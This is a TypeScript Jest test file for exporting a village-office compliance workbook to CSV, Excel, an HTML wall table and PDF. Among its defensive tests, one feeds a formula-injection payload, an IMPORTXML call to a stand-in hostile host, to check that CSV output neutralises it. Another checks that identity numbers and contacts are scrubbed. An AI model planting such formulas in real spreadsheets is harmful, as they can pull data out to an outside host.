import type { Office } from 'local-office';
import papa from 'papaparse';
import readXlsxFile from 'read-excel-file/node';
import { callRpc, kasimanUnits, shownFigures, shownRows } from '../kasiman';
import { februaryOffice } from '../letters/letter-office';

jest.setTimeout(240_000);

const february = { from: '2026-02', to: '2026-02' } as const;
function parsed(text: string, delimiter: string): string[][] {
  return papa.parse(text.replace(/^\ufeff/u, ''), { delimiter, skipEmptyLines: true }).data;
}
/** The XLSX file as another program reads it. */
function opened(office: Office, span = february) {
  return readXlsxFile(
    Buffer.from(callRpc(office, 'makeExport', { ...span, format: 'xlsx' }).content.data, 'base64'),
  );
}
/** Dates as text; the reader gives them to the millisecond, which a fraction of a day is not. */
function plain(value: unknown): unknown {
  return value instanceof Date
    ? new Date(Math.round(value.getTime() / 1000) * 1000)
        .toISOString()
        .replace(/(?:T00:00:00)?\.000Z$/u, '')
        .replace('T', ' ')
    : value;
}
/** The rows of the first sheet below its header, by header. */
function recordsOf([sheet]: Awaited<ReturnType<typeof opened>>) {
  const [headers = [], ...rows] = sheet?.data ?? [];
  return rows.map((row) => Object.fromEntries(headers.map((header, index) => [String(header), row[index]])));
}

describe('F36: what leaves the workbook as a file', () => {
  test.each([
    { format: 'csv-semicolon', delimiter: ';' },
    { format: 'csv-comma', delimiter: ',' },
  ] as const)('$format holds a row per desa with its code as it is', ({ format, delimiter }) => {
    const office = februaryOffice();
    const file = callRpc(office, 'makeExport', { ...february, format });
    expect(file.fileName).toBe('kepatuhan-35.22.20-2026-02-sd-2026-02.csv');
    expect(file.content.data.startsWith('\ufeffkode_kantor')).toBe(true);
    expect(file.content.data.split('\r\n')).toHaveLength(12);
    const [headers = [], ...rows] = parsed(file.content.data, delimiter);
    expect(headers).toEqual([
      'kode_kantor',
      'nama_kantor',
      'kode_wilayah',
      'nama_wilayah',
      'jenis_wilayah',
      'kunci_kewajiban',
      'kewajiban',
      'kunci_periode',
      'periode',
      'periode_mulai',
      'periode_selesai',
      'tenggat',
      'kunci_status',
      'status',
      'wajib_lapor',
      'jumlah_minimal',
      'jumlah_diterima',
      'jumlah_masuk',
      'terpenuhi',
      'diterima_pada',
      'tepat_waktu',
      'hari_terlambat',
      'tenggat_lewat',
      'hasil_kunjungan',
      'alasan_dispensasi',
      'tanggal_rencana',
    ]);
    expect(rows.map((row) => row[2])).toEqual(kasimanUnits.map(({ code }) => code));
    const ngaglik = Object.fromEntries(headers.map((header, index) => [header, rows[6]?.[index]]));
    expect(ngaglik).toMatchObject({
      kode_kantor: '35.22.20',
      kode_wilayah: '35.22.20.2007',
      kunci_periode: '2026-02',
      tenggat: '2026-03-05',
      kunci_status: 'late',
      status: 'Terlambat',
      diterima_pada: '2026-03-07 10:00:00',
      hari_terlambat: '2',
    });
  });

  test('the rows add up to the figures of Ringkasan', () => {
    const office = februaryOffice();
    const { content } = callRpc(office, 'makeExport', { ...february, format: 'csv-comma' });
    const [headers = [], ...rows] = parsed(content.data, ',');
    const count = (header: string, value: string): number =>
      rows.filter(
        (row) => row[headers.indexOf('wajib_lapor')] === '1' && row[headers.indexOf(header)] === value,
      ).length;
    const shown = shownFigures(office, 'Kerja Bakti', 'Feb 2026');
    expect(shown['✔ Tepat waktu']).toBe(`✔ ${count('tepat_waktu', 'ya')}`);
    expect(shown['◷ Terlambat']).toBe(`◷ ${count('tepat_waktu', 'tidak')}`);
    expect(shown['⚠ Temuan']).toBe(`⚠ ${count('hasil_kunjungan', 'tidak sesuai')} dari 1`);
    expect(shown['Sudah lapor']).toBe(`${count('terpenuhi', 'ya')} dari 9`);
  });

  test('another program opens the Excel file: codes are texts with their dots, days are days, counts are numbers', async () => {
    const office = februaryOffice();
    const sheets = await opened(office);
    expect(sheets.map(({ sheet }) => sheet)).toEqual(['Kepatuhan']);
    const records = recordsOf(sheets);
    const csv = parsed(callRpc(office, 'makeExport', { ...february, format: 'csv-comma' }).content.data, ',');
    expect(sheets[0]?.data[0]).toEqual(csv[0]);
    expect(records.map(({ kode_wilayah: code }) => code)).toEqual(kasimanUnits.map(({ code }) => code));
    expect(records[0]).toMatchObject({ kode_kantor: '35.22.20', kode_wilayah: '35.22.20.2001' });
    const times = ['tenggat', 'diterima_pada'].map((header) => records[6]?.[header]);
    expect(times.every((value) => value instanceof Date)).toBe(true);
    expect(times.map(plain)).toEqual(['2026-03-05', '2026-03-07 10:00:00']);
    expect(records[6]).toMatchObject({
      kunci_periode: '2026-02',
      wajib_lapor: 1,
      hari_terlambat: 2,
      terpenuhi: 'ya',
      tanggal_rencana: null,
    });
  });

  test('Excel and CSV say the same, cell by cell', async () => {
    const office = februaryOffice();
    const [sheet] = await opened(office);
    const csv = parsed(
      callRpc(office, 'makeExport', { ...february, format: 'csv-semicolon' }).content.data,
      ';',
    );
    expect(sheet?.data.map((row) => row.map((value) => String(plain(value) ?? '')))).toEqual(csv);
  });

  test.each(['=IMPORTXML("http://jahat.example";"//a")', '@kades', 'a;b,"c"', '007', '11.10'])(
    'a reason such as %s reaches Excel as that text, and CSV as text that does not run',
    async (reason) => {
      const office = februaryOffice();
      office.editAsUser('D2', /^[=+\-@\d]/u.test(reason) ? `'${reason}` : reason, 'Dispensasi');
      const besah = recordsOf(await opened(office))[4];
      expect(besah?.alasan_dispensasi).toBe(reason);
      for (const [format, delimiter] of [
        ['csv-comma', ','],
        ['csv-semicolon', ';'],
      ] as const) {
        const rows = parsed(callRpc(office, 'makeExport', { ...february, format }).content.data, delimiter);
        const cell = rows[5]?.[(rows[0] ?? []).indexOf('alasan_dispensasi')];
        expect(cell).toBe(/^[=+\-@]/u.test(reason) ? `'${reason}` : reason);
        expect(rows.every((row) => row.length === rows[0]?.length)).toBe(true);
      }
    },
  );

  test('no contact and no identity number is in any file or letter, whatever reports and tabs hold', async () => {
    const office = februaryOffice();
    const numbers = [
      '3522200101900001',
      '3522 2001 0190 0002',
      '352220 010190 0003',
      '0812 9999 8888',
      '+62812-9999-7777',
    ];
    const secret = `hubungi ${numbers.join(' / ')}, sekdes.rahasia@desa.example`;
    office.editAsUser('D2', 'sekdes.rahasia@desa.example', 'Kontak');
    office.editAsUser('E2', '0812 9999 8888', 'Kontak');
    office.editAsUser('D2', `Banjir, ${secret}`, 'Dispensasi');
    office.editAsUser('G2', `lokasi kosong, ${secret}`, 'Kunjungan');
    office.submitForm('Laporan Kerja Bakti', {
      Desa: '35.22.20.2004 Sidomukti',
      'Tanggal kegiatan': '2026-02-20',
      'Apa yang dikerjakan?': ['Membersihkan lingkungan'],
      'Jumlah warga yang hadir': '12',
      'Tempat, perangkat yang hadir, hasil, dan kendala': `Tempat: ${secret}\nHasil: ${secret}\nKendala: ${secret}`,
    });
    const { draft } = callRpc(office, 'proposeLetter', { kind: 'monthly-report', month: '2026-02' });
    const leaving = {
      csv: callRpc(office, 'makeExport', { ...february, format: 'csv-comma' }).content.data,
      excel: JSON.stringify(await opened(office)),
      wall: callRpc(office, 'previewWallTable', { month: '2026-02' }).html,
      letter: callRpc(office, 'previewLetter', draft).html,
    };
    for (const [name, text] of Object.entries(leaving)) {
      expect([name, text.match(/rahasia|9999|0190 ?000|\d{16}/gu)]).toEqual([name, null]);
      expect(text).toMatch(/anjir, hubungi/u);
    }
    expect(leaving.letter).toMatch(/lokasi kosong, hubungi/u);
  });

  test('months turned around are refused with what to do', () => {
    expect(() =>
      callRpc(februaryOffice(), 'makeExport', { from: '2026-03', to: '2026-02', format: 'xlsx' }),
    ).toThrow('Tukar keduanya');
  });

  test('the table for the wall says what Kepatuhan says, in words and signs', () => {
    const office = februaryOffice();
    const { html } = callRpc(office, 'previewWallTable', { month: '2026-02' });
    const states = shownRows(office, 'Kepatuhan 2026')
      .slice(2)
      .map((row) => row[2] ?? '');
    const cells = [...html.matchAll(/<td style="[^"]*">([^<]*)<\/td>/gu)].map(([, text]) => text);
    expect(cells).toEqual(states);
    expect(html).toContain('8 dari 9 (88,9 %)');
    expect(
      Buffer.from(callRpc(office, 'printWallTable', { month: '2026-02' }).base64, 'base64').toString(
        'latin1',
      ),
    ).toMatch(/^%PDF-/u);
  });
});
